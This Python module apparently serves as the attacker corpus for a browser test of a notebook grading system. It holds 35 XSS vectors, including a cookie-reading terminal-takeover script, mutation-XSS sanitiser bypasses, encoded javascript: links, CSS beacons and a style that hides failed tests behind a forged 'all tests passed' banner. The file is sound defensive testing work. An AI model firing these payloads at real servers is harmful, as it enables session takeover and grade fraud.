"""Hostile HTML a learner can submit: the attacker's corpus of the browser test (data only).

Each vector is (id, what it tries, text). In the text ``@ID@`` stands for the vector's
id prefixed with the place it was put (e.g. "M-V07": markdown cell, vector V07) and
``@SINK@`` for the test's counting URL (``http://127.0.0.1:<port>/hit``). When a vector
runs, it signals in a way the browser test records: it sets ``document.title`` to
``XSS-@ID@``, opens a dialog whose text starts ``XSS-``, sends a request to the
instructor's ``/api/`` (the real takeover: a terminal) or a request to ``@SINK@``.
The vectors that need a click (javascript: and data: links, form actions) are found
by the test's scan of the page instead.
"""

MARK = "XSS-"  # every title or dialog a payload makes starts with this
SET_TITLE = "document.title='XSS-@ID@'"

# The takeover issue 23 found: read the _xsrf cookie, create a terminal, name it in the title.
TAKEOVER = ("<script>document.title='XSS-@ID@';"
            "fetch('/api/terminals',{method:'POST',credentials:'same-origin',"
            "headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||''}})"
            ".then(r=>r.json()).then(t=>{document.title='XSS-@ID@-terminal-'+t.name})</script>")

# Styles that forge the grading: hide the errors, the failed tests and the score, show a banner.
FORGED_BANNER = "Grader note: all 10 tests passed, verified 20 / 20"
HIDE = (".output_error,.output_stderr,.output_area,.dnn-summary,.jp-OutputArea-output,"
        ".score,#score,.panel,.cell,.jp-Cell")

VECTORS = (
    ("V01", "script: terminal through /api/terminals with the _xsrf cookie", TAKEOVER),
    ("V02", "img onerror", "<img src=\"x\" onerror=\"alert('XSS-@ID@')\">"),
    ("V03", "svg onload", f"<svg onload=\"{SET_TITLE}\"></svg>"),
    ("V04", "iframe srcdoc",
     f"<iframe srcdoc=\"<script>parent.{SET_TITLE};{SET_TITLE}</script>\"></iframe>"),
    ("V05", "details open ontoggle",
     f"<details open ontoggle=\"{SET_TITLE}\"><summary>my notes</summary>notes</details>"),
    ("V06", "javascript: link in HTML", f"<a href=\"javascript:{SET_TITLE}\">my notes</a>"),
    ("V07", "javascript: link in markdown syntax", f"[my notes](javascript:{SET_TITLE})"),
    ("V08", "mutation XSS- math > mtext > table > mglyph > style",
     f"<math><mtext><table><mglyph><style><img src=x onerror=\"{SET_TITLE}\">"),
    ("V09", "mutation XSS- a comment that closes in the serialised style",
     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;"
     "&lt;img&Tab;src=1&Tab;onerror=confirm('XSS-@ID@')&gt;\">"),
    ("V10", "mutation XSS- svg > p > style with an attribute holding a closing tag",
     "<svg></p><style><a id=\"</style><img src=1 onerror=confirm('XSS-@ID@')>\">"),
    ("V11", "noscript whose attribute closes it",
     f"<noscript><p title=\"</noscript><img src=x onerror={SET_TITLE}>\"></noscript>"),
    ("V12", "template whose content a sanitiser may unwrap",
     f"<template><img src=x onerror=\"{SET_TITLE}\"></template>"),
    ("V13", "img alt that closes its attribute",
     "<img src=\"x\" alt=\"cat&quot; onerror=&quot;document.title='XSS-@ID@'\">"),
    ("V14", "markdown image alt that closes its attribute",
     "![cat\" onerror=\"document.title='XSS-@ID@'](x)"),
    ("V15", "CSS url() calling home from a style block",
     "<style>body{background-image:url('@SINK@/@ID@')}</style>"),
    ("V16", "CSS url() calling home from an inline style",
     "<div style=\"background-image:url('@SINK@/@ID@');width:20px;height:20px\">.</div>"),
    ("V17", "style forging the grading: errors, failed tests and score hidden, a fake banner",
     f"<style>{HIDE}{{display:none!important}}"
     ".forged{display:block!important;background:url('@SINK@/@ID@')}</style>"
     f"<div class=\"forged\">{FORGED_BANNER}</div>"),
    ("V18", "inline style covering the page",
     "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;"
     f"background:#fff url('@SINK@/@ID@')\">{FORGED_BANNER}</div>"),
    ("V19", "meta http-equiv refresh", "<meta http-equiv=\"refresh\" content=\"1;url=@SINK@/@ID@\">"),
    ("V20", "base href moving every relative URL", "<base href=\"@SINK@/@ID@/\"><img src=\"probe.png\" alt=\"\">"),
    ("V21", "SVG use href",
     "<svg><use href=\"@SINK@/@ID@.svg#x\"></use>"
     "<use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48"
     "aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"></use></svg>"),
    ("V22", "unicode-escaped handler", "<img src=x onerror=\"\\u0064ocument.title='XSS-@ID@'\">"),
    ("V23", "entity-encoded handler",
     "<img src=x onerror=\"&#100;&#111;cument.title=&#39;XSS-@ID@&#39;\">"),
    ("V24", "entity-encoded javascript: URL",
     "<a href=\"&#106;&#97;vascript:document.title='XSS-@ID@'\">my notes</a>"),
    ("V25", "javascript: URL split by a tab, mixed case",
     "<a href=\"JaVa&#x09;ScRiPt:document.title='XSS-@ID@'\">my notes</a>"),
    ("V26", "data:text/html link", "<a href=\"data:text/html,<script>alert('XSS-@ID@')</script>\">my notes</a>"),
    ("V27", "object with a data:text/html document",
     f"<object data=\"data:text/html,<script>{SET_TITLE};parent.{SET_TITLE}</script>\"></object>"),
    ("V28", "embed calling home", "<embed src=\"@SINK@/@ID@\" type=\"image/svg+xml\">"),
    ("V29", "form with javascript: formaction and an action calling home",
     f"<form action=\"@SINK@/@ID@\"><button formaction=\"javascript:{SET_TITLE}\">Check</button></form>"),
    ("V30", "input autofocus onfocus", f"<input autofocus onfocus=\"{SET_TITLE}\">"),
    ("V31", "TeX \\href to javascript:", f"$\\href{{javascript:{SET_TITLE}}}{{x}}$"),
    ("V32", "script inside svg", f"<svg><script>{SET_TITLE}</script></svg>"),
    ("V33", "body onload merged into the page's body", f"<body onload=\"{SET_TITLE}\">"),
    ("V34", "stylesheet link calling home", "<link rel=\"stylesheet\" href=\"@SINK@/@ID@.css\">"),
    ("V35", "video source onerror", f"<video><source src=\"x\" onerror=\"{SET_TITLE}\"></video>"),
)

# Through IPython's display from inside a solution cell while grading (besides HTML and Markdown
# of every vector): JavaScript, SVG and LaTeX outputs.
JAVASCRIPT = f"{SET_TITLE};alert('XSS-@ID@')"
SVG = ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"20\" "
       f"onload=\"{SET_TITLE}\"><script>{SET_TITLE}</script>"
       "<a href=\"javascript:alert('XSS-@ID@')\"><rect width=\"20\" height=\"20\"/></a></svg>")
LATEX = f"$\\href{{javascript:{SET_TITLE}}}{{x}}$ <img src=x onerror=\"{SET_TITLE}\">"

# Learner names in LMS downloads: no "_" or "/" fits a Moodle or Canvas name.
NAMES = {
    "Moodle": "<img src=x onerror=document.title='XSS-N-moodle'> Lee",
    "Canvas": "<svg onload=document.title='XSS-N-canvas'>",
    "Blackboard": "<iframe srcdoc=\"<script>parent.document.title='XSS-N-blackboard'</script>\"></iframe> Doe",
}

# A learner's harmless notes: a formula, an image (a pasted attachment) and a table. They must
# still render once everything above is cleaned.
NOTE_FORMULA = r"$\sigma(z) = \frac{1}{1 + e^{-z}}$"
NOTE_TABLE_CELL = "learning rate"
NOTE = ("## My notes\n\n"
        f"The sigmoid: {NOTE_FORMULA}\n\n"
        "![my drawing of the network](attachment:network.png)\n\n"
        "| setting | value |\n|---|---|\n"
        f"| iterations | 2500 |\n| {NOTE_TABLE_CELL} | 0.0075 |\n")
# A 16 x 16 dark-blue PNG.
NOTE_IMAGE = ("iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mMQ0eghCTGMahjVMHw1AADc78gBdCIP2wAAAABJRU5ErkJggg==")


def fill(text, place, vector_id, sink):
    """A vector's text ready to submit.

    Args:
        text: the vector's text with ``@ID@`` and ``@SINK@``.
        place: a letter for where it is put (M markdown, H HTML output, ...).
        vector_id: e.g. "V07".
        sink: the counting URL, e.g. "http://127.0.0.1:8123/hit".

    Returns:
        The text with its marker and the counting URL in place.
    """
    return text.replace("@ID@", f"{place}-{vector_id}").replace("@SINK@", sink)
